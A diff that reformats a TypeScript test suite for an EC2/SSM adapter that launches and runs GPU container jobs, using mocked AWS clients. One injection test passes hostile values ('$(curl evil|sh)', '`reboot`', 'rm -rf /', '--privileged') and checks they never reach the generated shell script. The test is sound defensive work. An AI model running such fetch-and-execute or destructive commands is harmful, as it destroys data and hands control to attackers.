@@ -1,9 +1,28 @@
 import assert from 'node:assert/strict';
 import { beforeEach, describe, test } from 'node:test';
-import { DescribeInstancesCommand, EC2Client, EC2ServiceException, RunInstancesCommand, TerminateInstancesCommand } from '@aws-sdk/client-ec2';
-import { DescribeInstanceInformationCommand, GetCommandInvocationCommand, ListCommandsCommand, SSMClient, SSMServiceException, SendCommandCommand } from '@aws-sdk/client-ssm';
+import {
+  DescribeInstancesCommand,
+  EC2Client,
+  EC2ServiceException,
+  RunInstancesCommand,
+  TerminateInstancesCommand,
+} from '@aws-sdk/client-ec2';
+import {
+  DescribeInstanceInformationCommand,
+  GetCommandInvocationCommand,
+  ListCommandsCommand,
+  SSMClient,
+  SSMServiceException,
+  SendCommandCommand,
+} from '@aws-sdk/client-ssm';
 import { mockClient } from 'aws-sdk-client-mock';
-import { Ec2SsmCompute, PartialLaunchView, clientToken, vcpuQuotaName, type Ec2SsmComputeProps } from '../../lambdas/adapters/ec2-ssm-compute.js';
+import {
+  Ec2SsmCompute,
+  PartialLaunchView,
+  clientToken,
+  vcpuQuotaName,
+  type Ec2SsmComputeProps,
+} from '../../lambdas/adapters/ec2-ssm-compute.js';
 import { deadlineScript, instanceScript, type DockerRunOptions } from '../../lambdas/core/container-command.js';
 import { LaunchFailed, NoCapacity, ValidationError } from '../../lambdas/core/errors.js';
 import type { ContainerSpec } from '../../lambdas/ports/compute.js';
@@ -26,11 +45,24 @@ const PROPS: Ec2SsmComputeProps = {
 const job = launchingJob;
 
 function spec(overrides: Partial<ContainerSpec> = {}): ContainerSpec {
-  return { jobId: 'job-7', image: `nvidia/cuda:12.4.1@sha256:${'a'.repeat(64)}`, command: ['python', 'train.py', '$(id)'], env: { EPOCHS: '3' }, gpus: 1, expiresAt: '2030-01-01T01:00:00.000Z', ...overrides };
+  return {
+    jobId: 'job-7',
+    image: `nvidia/cuda:12.4.1@sha256:${'a'.repeat(64)}`,
+    command: ['python', 'train.py', '$(id)'],
+    env: { EPOCHS: '3' },
+    gpus: 1,
+    expiresAt: '2030-01-01T01:00:00.000Z',
+    ...overrides,
+  };
 }
 
 function ec2Error(code: string): EC2ServiceException {
-  return new EC2ServiceException({ name: code, $fault: 'client', $metadata: { httpStatusCode: 400 }, message: `${code} (mocked)` });
+  return new EC2ServiceException({
+    name: code,
+    $fault: 'client',
+    $metadata: { httpStatusCode: 400 },
+    message: `${code} (mocked)`,
+  });
 }
 
 const BASE_TAGS = [
@@ -42,7 +74,11 @@ const BASE_TAGS = [
 ];
 
 /** Attempt 0, launched at PROPS.now() (00:00): + 600 s agent timeout + 60 min live timeout. */
-const TAGS = [...BASE_TAGS, { Key: 'flare:attempt', Value: '0' }, { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' }];
+const TAGS = [
+  ...BASE_TAGS,
+  { Key: 'flare:attempt', Value: '0' },
+  { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' },
+];
 
 function runInput(instanceType: string, subnetId: string, clientToken: string, count = 1, tags = TAGS) {
   return {
@@ -102,8 +138,15 @@ describe('Ec2SsmCompute.launch', () => {
 
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
     // 00:05 + 900 s + 30.5 min
-    const tags = [...BASE_TAGS, { Key: 'flare:attempt', Value: '0' }, { Key: 'flare:expires-at', Value: '2030-01-01T00:50:30.000Z' }];
-    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags), runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags)]);
+    const tags = [
+      ...BASE_TAGS,
+      { Key: 'flare:attempt', Value: '0' },
+      { Key: 'flare:expires-at', Value: '2030-01-01T00:50:30.000Z' },
+    ];
+    assert.deepEqual(inputs, [
+      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags),
+      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0', 1, tags),
+    ]);
   });
 
   test('a repeated call returns the instances already launched and starts nothing new', async () => {
@@ -130,20 +173,35 @@ describe('Ec2SsmCompute.launch', () => {
   });
 
   test('a requeued job (next launch attempt) gets fresh ClientTokens and is tagged with its attempt', async () => {
-    ec2Mock.on(RunInstancesCommand).rejectsOnce(ec2Error('InsufficientInstanceCapacity')).resolves({ Instances: [{ InstanceId: 'i-5' }] });
+    ec2Mock
+      .on(RunInstancesCommand)
+      .rejectsOnce(ec2Error('InsufficientInstanceCapacity'))
+      .resolves({ Instances: [{ InstanceId: 'i-5' }] });
 
     await new Ec2SsmCompute(PROPS).launch(job({ launchAttempt: 3 }));
 
-    const tags = [...BASE_TAGS, { Key: 'flare:attempt', Value: '3' }, { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' }];
+    const tags = [
+      ...BASE_TAGS,
+      { Key: 'flare:attempt', Value: '3' },
+      { Key: 'flare:expires-at', Value: '2030-01-01T01:10:00.000Z' },
+    ];
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.3.0', 1, tags), runInput('g5.xlarge', 'subnet-b', 'job-7.3.1', 1, tags)]);
+    assert.deepEqual(inputs, [
+      runInput('g5.xlarge', 'subnet-a', 'job-7.3.0', 1, tags),
+      runInput('g5.xlarge', 'subnet-b', 'job-7.3.1', 1, tags),
+    ]);
   });
 
   test('ClientTokens fit EC2s 64 characters for the longest job ids and stay distinct', () => {
     const flareId = `j-${'a'.repeat(16)}`;
     assert.equal(clientToken(flareId, 12, 7), `${flareId}.12.7`);
     const longest = 'x'.repeat(60);
-    const tokens = [clientToken(longest, 0, 0), clientToken(longest, 10, 0), clientToken(longest, 1, 0), clientToken(longest, 0, 10)];
+    const tokens = [
+      clientToken(longest, 0, 0),
+      clientToken(longest, 10, 0),
+      clientToken(longest, 1, 0),
+      clientToken(longest, 0, 10),
+    ];
     for (const token of tokens) assert.ok(token.length <= 64, token);
     assert.equal(new Set(tokens).size, tokens.length);
     assert.equal(clientToken(longest, 10, 0), clientToken(longest, 10, 0));
@@ -158,20 +216,41 @@ describe('Ec2SsmCompute.launch', () => {
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
     assert.deepEqual(inputs[0], {
       ...runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
-      BlockDeviceMappings: [{ DeviceName: '/dev/sda1', Ebs: { VolumeSize: 500, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true } }],
+      BlockDeviceMappings: [
+        {
+          DeviceName: '/dev/sda1',
+          Ebs: { VolumeSize: 500, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true },
+        },
+      ],
     });
-    assert.deepEqual(inputs[1].BlockDeviceMappings, [{ DeviceName: '/dev/xvda', Ebs: { VolumeSize: 200, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true } }]);
+    assert.deepEqual(inputs[1].BlockDeviceMappings, [
+      {
+        DeviceName: '/dev/xvda',
+        Ebs: { VolumeSize: 200, VolumeType: 'gp3', Encrypted: true, DeleteOnTermination: true },
+      },
+    ]);
   });
 
-  for (const code of ['InsufficientInstanceCapacity', 'Unsupported', 'InsufficientFreeAddressesInSubnet', 'InsufficientCapacity']) {
+  for (const code of [
+    'InsufficientInstanceCapacity',
+    'Unsupported',
+    'InsufficientFreeAddressesInSubnet',
+    'InsufficientCapacity',
+  ]) {
     test(`on ${code} tries the next subnet with its own ClientToken`, async () => {
-      ec2Mock.on(RunInstancesCommand).rejectsOnce(ec2Error(code)).resolves({ Instances: [{ InstanceId: 'i-9' }] });
+      ec2Mock
+        .on(RunInstancesCommand)
+        .rejectsOnce(ec2Error(code))
+        .resolves({ Instances: [{ InstanceId: 'i-9' }] });
 
       const launched = await new Ec2SsmCompute(PROPS).launch(job());
 
       assert.deepEqual(launched, { instanceIds: ['i-9'] });
       const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-      assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.xlarge', 'subnet-b', 'job-7.0.1')]);
+      assert.deepEqual(inputs, [
+        runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
+        runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'),
+      ]);
     });
   }
 
@@ -186,7 +265,11 @@ describe('Ec2SsmCompute.launch', () => {
 
     assert.deepEqual(launched, { instanceIds: ['i-3'] });
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'), runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2')]);
+    assert.deepEqual(inputs, [
+      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
+      runInput('g5.xlarge', 'subnet-b', 'job-7.0.1'),
+      runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'),
+    ]);
   });
 
   test('throws NoCapacity (not a job failure) naming every attempt when all types and subnets fail', async () => {
@@ -216,7 +299,11 @@ describe('Ec2SsmCompute.launch', () => {
 
   test('on VcpuLimitExceeded skips the other subnets of that type, tries the fallback type, and names the quota to raise', async () => {
     const vcpu = ec2Error('VcpuLimitExceeded');
-    ec2Mock.on(RunInstancesCommand).rejectsOnce(vcpu).rejectsOnce(ec2Error('InsufficientInstanceCapacity')).rejectsOnce(ec2Error('InsufficientInstanceCapacity'));
+    ec2Mock
+      .on(RunInstancesCommand)
+      .rejectsOnce(vcpu)
+      .rejectsOnce(ec2Error('InsufficientInstanceCapacity'))
+      .rejectsOnce(ec2Error('InsufficientInstanceCapacity'));
 
     await assert.rejects(new Ec2SsmCompute(PROPS).launch(job()), (error: unknown) => {
       assert.ok(error instanceof NoCapacity);
@@ -230,11 +317,18 @@ describe('Ec2SsmCompute.launch', () => {
     });
     // The skipped position keeps its token number, so the next type's tokens do not shift.
     const inputs = ec2Mock.commandCalls(RunInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'), runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'), runInput('g5.2xlarge', 'subnet-b', 'job-7.0.3')]);
+    assert.deepEqual(inputs, [
+      runInput('g5.xlarge', 'subnet-a', 'job-7.0.0'),
+      runInput('g5.2xlarge', 'subnet-a', 'job-7.0.2'),
+      runInput('g5.2xlarge', 'subnet-b', 'job-7.0.3'),
+    ]);
   });
 
   test('a vCPU limit on one type and capacity on the fallback still launches', async () => {
-    ec2Mock.on(RunInstancesCommand).rejectsOnce(ec2Error('VcpuLimitExceeded')).resolves({ Instances: [{ InstanceId: 'i-4' }] });
+    ec2Mock
+      .on(RunInstancesCommand)
+      .rejectsOnce(ec2Error('VcpuLimitExceeded'))
+      .resolves({ Instances: [{ InstanceId: 'i-4' }] });
     assert.deepEqual(await new Ec2SsmCompute(PROPS).launch(job()), { instanceIds: ['i-4'] });
   });
 
@@ -289,7 +383,9 @@ describe('Ec2SsmCompute.isReady', () => {
   });
 
   test('is false while an instance is not registered yet', async () => {
-    ssmMock.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: 'i-1', PingStatus: 'Online' }] });
+    ssmMock
+      .on(DescribeInstanceInformationCommand)
+      .resolves({ InstanceInformationList: [{ InstanceId: 'i-1', PingStatus: 'Online' }] });
     assert.equal(await new Ec2SsmCompute(PROPS).isReady(ready), false);
   });
 
@@ -312,11 +408,21 @@ describe('Ec2SsmCompute.isReady', () => {
 describe('Ec2SsmCompute.start', () => {
   const single = job({ instanceIds: ['i-1'] });
   const multi = job({ instanceIds: ['i-1', 'i-2', 'i-3'], nodeCount: 3 });
-  const listInput = (InstanceId: string, document = 'AWS-RunShellScript') => ({ InstanceId, Filters: [{ key: 'DocumentName', value: document }], MaxResults: 50, NextToken: undefined });
+  const listInput = (InstanceId: string, document = 'AWS-RunShellScript') => ({
+    InstanceId,
+    Filters: [{ key: 'DocumentName', value: document }],
+    MaxResults: 50,
+    NextToken: undefined,
+  });
   const SCRIPT_OPTIONS: DockerRunOptions = { memory: '14g', scratchDir: '/var/lib/flare/scratch' };
   /** Ranks reach each other over the host network. */
   const MULTI_OPTIONS: DockerRunOptions = { ...SCRIPT_OPTIONS, hostNetwork: true };
-  const torchrun = (rank: number) => ({ NODE_RANK: String(rank), WORLD_SIZE: '3', MASTER_ADDR: '10.0.1.17', MASTER_PORT: '29500' });
+  const torchrun = (rank: number) => ({
+    NODE_RANK: String(rank),
+    WORLD_SIZE: '3',
+    MASTER_ADDR: '10.0.1.17',
+    MASTER_PORT: '29500',
+  });
   const sendInput = (instanceId: string, script: string) => ({
     DocumentName: 'AWS-RunShellScript',
     InstanceIds: [instanceId],
@@ -327,7 +433,9 @@ describe('Ec2SsmCompute.start', () => {
   });
 
   function masterDescribed() {
-    ec2Mock.on(DescribeInstancesCommand, { InstanceIds: ['i-1'] }).resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1', PrivateIpAddress: '10.0.1.17' }] }] });
+    ec2Mock
+      .on(DescribeInstancesCommand, { InstanceIds: ['i-1'] })
+      .resolves({ Reservations: [{ Instances: [{ InstanceId: 'i-1', PrivateIpAddress: '10.0.1.17' }] }] });
   }
 
   test('single node: sends the instance script with the job in the comment and the longest execution timeout', async () => {
@@ -349,14 +457,20 @@ describe('Ec2SsmCompute.start', () => {
       CloudWatchOutputConfig: { CloudWatchLogGroupName: '/flare/jobs', CloudWatchOutputEnabled: true },
     });
     assert.ok(!expectedScript.includes('$(id)'), 'job text travels encoded');
-    assert.ok(expectedScript.includes('echo 2030-01-01T01:00:00.000Z > /var/lib/flare/expires-at.job-7.tmp'), 'the instance learns the job expiry');
+    assert.ok(
+      expectedScript.includes('echo 2030-01-01T01:00:00.000Z > /var/lib/flare/expires-at.job-7.tmp'),
+      'the instance learns the job expiry',
+    );
     assert.equal(ec2Mock.commandCalls(DescribeInstancesCommand).length, 0, 'no rendezvous address for one node');
   });
 
   test("a template that allows root runs the image's own user; otherwise the unprivileged default", async () => {
     ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
     ssmMock.on(SendCommandCommand).resolves({});
-    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start({ ...single, allowRoot: true }, spec({ allowRoot: true }));
+    await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(
+      { ...single, allowRoot: true },
+      spec({ allowRoot: true }),
+    );
     await new Ec2SsmCompute({ ...PROPS, logGroupName: undefined }).start(single, spec());
     const [root, plain] = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input.Parameters!.commands![0]);
     assert.equal(root, instanceScript(spec({ allowRoot: true }), { ...SCRIPT_OPTIONS, allowRoot: true }));
@@ -368,7 +482,11 @@ describe('Ec2SsmCompute.start', () => {
     ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
     ssmMock.on(SendCommandCommand).resolves({});
 
-    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunJob', dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' } }).start(single, spec());
+    await new Ec2SsmCompute({
+      ...PROPS,
+      agentDocument: 'Flare-RunJob',
+      dockerOptions: { memory: '99g', shmSize: '8g', scratchDir: '/mnt/nvme/scratch' },
+    }).start(single, spec());
 
     assert.deepEqual(ssmMock.commandCalls(ListCommandsCommand)[0].args[0].input, listInput('i-1', 'Flare-RunJob'));
     assert.deepEqual(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input, {
@@ -389,11 +507,16 @@ describe('Ec2SsmCompute.start', () => {
       ssmMock.commandCalls(ListCommandsCommand).map((c) => c.args[0].input),
       [listInput('i-1'), listInput('i-2'), listInput('i-3')],
     );
-    assert.deepEqual(ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input), [{ InstanceIds: ['i-1'], NextToken: undefined }]);
+    assert.deepEqual(
+      ec2Mock.commandCalls(DescribeInstancesCommand).map((c) => c.args[0].input),
+      [{ InstanceIds: ['i-1'], NextToken: undefined }],
+    );
     const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
     assert.deepEqual(
       sends,
-      ['i-1', 'i-2', 'i-3'].map((id, rank) => sendInput(id, instanceScript({ ...jobSpec, env: { EPOCHS: '3', ...torchrun(rank) } }, MULTI_OPTIONS))),
+      ['i-1', 'i-2', 'i-3'].map((id, rank) =>
+        sendInput(id, instanceScript({ ...jobSpec, env: { EPOCHS: '3', ...torchrun(rank) } }, MULTI_OPTIONS)),
+      ),
     );
   });
 
@@ -405,20 +528,32 @@ describe('Ec2SsmCompute.start', () => {
     await new Ec2SsmCompute({ ...PROPS, masterPort: 23456 }).start(multi, spec());
 
     const last = ssmMock.commandCalls(SendCommandCommand)[2].args[0].input;
-    assert.deepEqual(last, sendInput('i-3', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(2), MASTER_PORT: '23456' } }), MULTI_OPTIONS)));
+    assert.deepEqual(
+      last,
+      sendInput(
+        'i-3',
+        instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(2), MASTER_PORT: '23456' } }), MULTI_OPTIONS),
+      ),
+    );
   });
 
   test('a repeated multi-node call resends only to the instances that have no command yet', async () => {
     ssmMock.on(ListCommandsCommand).resolves({ Commands: [] });
-    ssmMock.on(ListCommandsCommand, { InstanceId: 'i-1' }).resolves({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7' }] });
-    ssmMock.on(ListCommandsCommand, { InstanceId: 'i-3' }).resolves({ Commands: [{ CommandId: 'c-3', Comment: 'flare:job=job-7' }] });
+    ssmMock
+      .on(ListCommandsCommand, { InstanceId: 'i-1' })
+      .resolves({ Commands: [{ CommandId: 'c-1', Comment: 'flare:job=job-7' }] });
+    ssmMock
+      .on(ListCommandsCommand, { InstanceId: 'i-3' })
+      .resolves({ Commands: [{ CommandId: 'c-3', Comment: 'flare:job=job-7' }] });
     ssmMock.on(SendCommandCommand).resolves({});
     masterDescribed();
 
     await new Ec2SsmCompute(PROPS).start(multi, spec());
 
     const sends = ssmMock.commandCalls(SendCommandCommand).map((c) => c.args[0].input);
-    assert.deepEqual(sends, [sendInput('i-2', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(1) } }), MULTI_OPTIONS))]);
+    assert.deepEqual(sends, [
+      sendInput('i-2', instanceScript(spec({ env: { EPOCHS: '3', ...torchrun(1) } }), MULTI_OPTIONS)),
+    ]);
   });
 
   test('a repeated call finds its command by comment across pages and sends nothing', async () => {
@@ -447,7 +582,10 @@ describe('Ec2SsmCompute.start', () => {
   test('refuses a spec for another job, a job without instances, and instances that do not match its nodes', async () => {
     await assert.rejects(new Ec2SsmCompute(PROPS).start(single, spec({ jobId: 'job-8' })), ValidationError);
     await assert.rejects(new Ec2SsmCompute(PROPS).start(job(), spec()), LaunchFailed);
-    await assert.rejects(new Ec2SsmCompute(PROPS).start(job({ instanceIds: ['i-1', 'i-2'], nodeCount: 3 }), spec()), LaunchFailed);
+    await assert.rejects(
+      new Ec2SsmCompute(PROPS).start(job({ instanceIds: ['i-1', 'i-2'], nodeCount: 3 }), spec()),
+      LaunchFailed,
+    );
     assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
   });
 
@@ -472,11 +610,15 @@ describe('Ec2SsmCompute.start', () => {
     ssmMock.on(SendCommandCommand).resolves({});
     masterDescribed();
 
-    await new Ec2SsmCompute(PROPS).start(multi, spec({ command: ['sh', '-c', '$(curl evil|sh)', '--privileged'], env: { X: '`reboot`\nrm -rf /' } }));
+    await new Ec2SsmCompute(PROPS).start(
+      multi,
+      spec({ command: ['sh', '-c', '$(curl evil|sh)', '--privileged'], env: { X: '`reboot`\nrm -rf /' } }),
+    );
 
     for (const call of ssmMock.commandCalls(SendCommandCommand)) {
       const [script] = call.args[0].input.Parameters!.commands!;
-      for (const text of ['curl evil', 'reboot', 'rm -rf', 'privileged']) assert.ok(!script.includes(text), `${text} in script`);
+      for (const text of ['curl evil', 'reboot', 'rm -rf', 'privileged'])
+        assert.ok(!script.includes(text), `${text} in script`);
     }
   });
 });
@@ -487,7 +629,10 @@ describe('Ec2SsmCompute.updateExpiry', () => {
   test('sends one deadline rewrite to every instance of the job, under its own comment and a short timeout', async () => {
     ssmMock.on(SendCommandCommand).resolves({ Command: { CommandId: 'c-9' } });
 
-    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).updateExpiry(job({ state: 'RUNNING', instanceIds: ['i-1', 'i-2'], nodeCount: 2 }), NEW_EXPIRY);
+    await new Ec2SsmCompute({ ...PROPS, logGroupName: '/flare/jobs' }).updateExpiry(
+      job({ state: 'RUNNING', instanceIds: ['i-1', 'i-2'], nodeCount: 2 }),
+      NEW_EXPIRY,
+    );
 
     const sends = ssmMock.commandCalls(SendCommandCommand);
     assert.equal(sends.length, 1);
@@ -499,12 +644,19 @@ describe('Ec2SsmCompute.updateExpiry', () => {
     });
     const [script] = sends[0].args[0].input.Parameters!.commands!;
     assert.ok(script.includes(`echo ${NEW_EXPIRY} > /var/lib/flare/expires-at.job-7.tmp`), script);
-    assert.equal(ssmMock.commandCalls(ListCommandsCommand).length, 0, 'no lookup: rewriting the deadline twice is harmless');
+    assert.equal(
+      ssmMock.commandCalls(ListCommandsCommand).length,
+      0,
+      'no lookup: rewriting the deadline twice is harmless',
+    );
   });
 
   test('uses the configured agent document', async () => {
     ssmMock.on(SendCommandCommand).resolves({});
-    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunShellScript' }).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY);
+    await new Ec2SsmCompute({ ...PROPS, agentDocument: 'Flare-RunShellScript' }).updateExpiry(
+      job({ instanceIds: ['i-1'] }),
+      NEW_EXPIRY,
+    );
     assert.equal(ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.DocumentName, 'Flare-RunShellScript');
   });
 
@@ -513,7 +665,11 @@ describe('Ec2SsmCompute.updateExpiry', () => {
     await new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY);
     const Comment = ssmMock.commandCalls(SendCommandCommand)[0].args[0].input.Comment;
     ssmMock.on(GetCommandInvocationCommand).resolves({ Comment, Status: 'Success', ResponseCode: 0 });
-    assert.equal(await new Ec2SsmCompute(PROPS).commandOutcome('c-9', 'i-1'), undefined, 'a finished deadline rewrite is no exit 0 of the job');
+    assert.equal(
+      await new Ec2SsmCompute(PROPS).commandOutcome('c-9', 'i-1'),
+      undefined,
+      'a finished deadline rewrite is no exit 0 of the job',
+    );
   });
 
   for (const [what, id, expiresAt] of [
@@ -527,7 +683,10 @@ describe('Ec2SsmCompute.updateExpiry', () => {
   ] as const) {
     test(`refuses ${what}: nothing is sent`, async () => {
       ssmMock.on(SendCommandCommand).resolves({});
-      await assert.rejects(new Ec2SsmCompute(PROPS).updateExpiry(job({ id, instanceIds: ['i-1'] }), expiresAt), ValidationError);
+      await assert.rejects(
+        new Ec2SsmCompute(PROPS).updateExpiry(job({ id, instanceIds: ['i-1'] }), expiresAt),
+        ValidationError,
+      );
       assert.equal(ssmMock.commandCalls(SendCommandCommand).length, 0);
     });
   }
@@ -538,9 +697,17 @@ describe('Ec2SsmCompute.updateExpiry', () => {
   });
 
   test('throws what SSM throws, so the workflow retries', async () => {
-    const throttled = new SSMServiceException({ name: 'ThrottlingException', $fault: 'client', $metadata: { httpStatusCode: 400 }, message: 'mocked' });
+    const throttled = new SSMServiceException({
+      name: 'ThrottlingException',
+      $fault: 'client',
+      $metadata: { httpStatusCode: 400 },
+      message: 'mocked',
+    });
     ssmMock.on(SendCommandCommand).rejects(throttled);
-    await assert.rejects(new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY), (error: unknown) => error === throttled);
+    await assert.rejects(
+      new Ec2SsmCompute(PROPS).updateExpiry(job({ instanceIds: ['i-1'] }), NEW_EXPIRY),
+      (error: unknown) => error === throttled,
+    );
   });
 });
 
@@ -588,13 +755,20 @@ describe('Ec2SsmCompute.stop', () => {
     await new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-gone', 'i-2'] }));
 
     const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [{ InstanceIds: ['i-gone', 'i-2'] }, { InstanceIds: ['i-gone'] }, { InstanceIds: ['i-2'] }]);
+    assert.deepEqual(inputs, [
+      { InstanceIds: ['i-gone', 'i-2'] },
+      { InstanceIds: ['i-gone'] },
+      { InstanceIds: ['i-2'] },
+    ]);
   });
 
   test('throws any other error so the workflow retries', async () => {
     const denied = ec2Error('UnauthorizedOperation');
     ec2Mock.on(TerminateInstancesCommand).rejects(denied);
-    await assert.rejects(new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1'] })), (error: unknown) => error === denied);
+    await assert.rejects(
+      new Ec2SsmCompute(PROPS).stop(job({ instanceIds: ['i-1'] })),
+      (error: unknown) => error === denied,
+    );
   });
 });
 
@@ -606,7 +780,11 @@ describe('Ec2SsmCompute.terminate', () => {
     await new Ec2SsmCompute(PROPS).terminate([...ids, ids[0]]);
 
     const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [{ InstanceIds: ids.slice(0, 100) }, { InstanceIds: ids.slice(100, 200) }, { InstanceIds: ids.slice(200) }]);
+    assert.deepEqual(inputs, [
+      { InstanceIds: ids.slice(0, 100) },
+      { InstanceIds: ids.slice(100, 200) },
+      { InstanceIds: ids.slice(200) },
+    ]);
   });
 
   test('ignores ids EC2 no longer knows, one batch at a time, and sends nothing for none', async () => {
@@ -620,7 +798,11 @@ describe('Ec2SsmCompute.terminate', () => {
     await new Ec2SsmCompute(PROPS).terminate(['i-gone', 'i-2']);
 
     const inputs = ec2Mock.commandCalls(TerminateInstancesCommand).map((c) => c.args[0].input);
-    assert.deepEqual(inputs, [{ InstanceIds: ['i-gone', 'i-2'] }, { InstanceIds: ['i-gone'] }, { InstanceIds: ['i-2'] }]);
+    assert.deepEqual(inputs, [
+      { InstanceIds: ['i-gone', 'i-2'] },
+      { InstanceIds: ['i-gone'] },
+      { InstanceIds: ['i-2'] },
+    ]);
   });
 
   test('throws any other error', async () => {
@@ -638,14 +820,35 @@ describe('Ec2SsmCompute.listManaged', () => {
         Reservations: [
           {
             Instances: [
-              { InstanceId: 'i-1', State: { Name: 'running' }, LaunchTime: new Date('2030-01-01T00:00:00.000Z'), Tags: [{ Key: 'managed-by', Value: 'flare' }, { Key: 'flare:job', Value: 'j-abc' }] },
+              {
+                InstanceId: 'i-1',
+                State: { Name: 'running' },
+                LaunchTime: new Date('2030-01-01T00:00:00.000Z'),
+                Tags: [
+                  { Key: 'managed-by', Value: 'flare' },
+                  { Key: 'flare:job', Value: 'j-abc' },
+                ],
+              },
               { InstanceId: 'i-2', State: { Name: 'pending' }, Tags: [{ Key: 'managed-by', Value: 'flare' }] },
             ],
           },
         ],
         NextToken: 'page-2',
       })
-      .resolvesOnce({ Reservations: [{ Instances: [{ InstanceId: 'i-3', State: { Name: 'stopped' }, LaunchTime: new Date('2030-01-02T00:00:00.000Z'), Tags: [{ Key: 'flare:job', Value: 'j-def' }] }] }] });
+      .resolvesOnce({
+        Reservations: [
+          {
+            Instances: [
+              {
+                InstanceId: 'i-3',
+                State: { Name: 'stopped' },
+                LaunchTime: new Date('2030-01-02T00:00:00.000Z'),
+                Tags: [{ Key: 'flare:job', Value: 'j-def' }],
+              },
+            ],
+          },
+        ],
+      });
 
     const managed = await new Ec2SsmCompute(PROPS).listManaged();
 
@@ -686,7 +889,13 @@ describe('Ec2SsmCompute.listManaged', () => {
   test('with a deployment name, launches carry it as a tag', async () => {
     ec2Mock.on(RunInstancesCommand).resolves({ Instances: [{ InstanceId: 'i-1' }] });
     await new Ec2SsmCompute({ ...PROPS, deployment: 'FlareStaging' }).launch(job());
-    const tags = [BASE_TAGS[0], BASE_TAGS[1], { Key: 'flare:deployment', Value: 'FlareStaging' }, ...BASE_TAGS.slice(2), ...TAGS.slice(BASE_TAGS.length)];
+    const tags = [
+      BASE_TAGS[0],
+      BASE_TAGS[1],
+      { Key: 'flare:deployment', Value: 'FlareStaging' },
+      ...BASE_TAGS.slice(2),
+      ...TAGS.slice(BASE_TAGS.length),
+    ];
     assert.deepEqual(ec2Mock.commandCalls(RunInstancesCommand)[0].args[0].input.TagSpecifications, [
       { ResourceType: 'instance', Tags: tags },
       { ResourceType: 'volume', Tags: tags },
@@ -696,16 +905,33 @@ describe('Ec2SsmCompute.listManaged', () => {
 
 describe('Ec2SsmCompute event lookups', () => {
   function invocationMissing(): SSMServiceException {
-    return new SSMServiceException({ name: 'InvocationDoesNotExist', $fault: 'client', $metadata: { httpStatusCode: 400 }, message: 'mocked' });
+    return new SSMServiceException({
+      name: 'InvocationDoesNotExist',
+      $fault: 'client',
+      $metadata: { httpStatusCode: 400 },
+      message: 'mocked',
+    });
   }
 
   test('commandOutcome reads Flare command invocations back to their job and exit code', async () => {
-    ssmMock.on(GetCommandInvocationCommand).resolves({ CommandId: 'c-1', InstanceId: 'i-1', Comment: 'flare:job=j-abc', Status: 'Failed', StatusDetails: 'Failed', ResponseCode: 42 });
+    ssmMock
+      .on(GetCommandInvocationCommand)
+      .resolves({
+        CommandId: 'c-1',
+        InstanceId: 'i-1',
+        Comment: 'flare:job=j-abc',
+        Status: 'Failed',
+        StatusDetails: 'Failed',
+        ResponseCode: 42,
+      });
 
